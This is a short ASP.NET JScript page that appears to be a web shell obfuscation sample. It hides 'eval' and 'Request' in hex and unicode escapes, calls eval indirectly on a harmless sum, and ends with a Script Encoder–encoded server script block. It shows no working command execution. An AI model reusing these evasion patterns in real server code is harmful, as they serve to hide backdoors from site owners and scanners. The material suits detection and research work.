<%@ Page Language="JScript" %><%
var _0x1a2b = ["\x65\x76\x61\x6c", "\u0052equest"], _0x3c4d = 1, _0x5e6f = 2, _0xabcd = 3;
var s = String.fromCharCode(101, 118, 97, 108, 40, 41, 59);
this[_0x1a2b[0]](_0x3c4d + _0x5e6f);
%><script runat=server>#@~^CAAAAA==W!x^DkKxfR4AAA==^#~@</script>
